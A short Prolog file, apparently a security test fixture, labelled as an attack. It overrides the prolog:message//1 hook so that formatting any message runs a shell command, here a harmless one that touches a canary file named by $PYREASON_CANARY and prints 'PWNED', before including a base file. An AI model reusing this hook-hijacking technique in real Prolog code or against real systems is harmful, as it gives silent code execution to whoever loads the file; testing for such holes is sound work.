:- encoding(utf8).
%   Attack: prolog:message//1: called to word any message.
prolog:message(_) --> { shell('touch "$PYREASON_CANARY"; echo PWNED') }, [].
:- include(base).
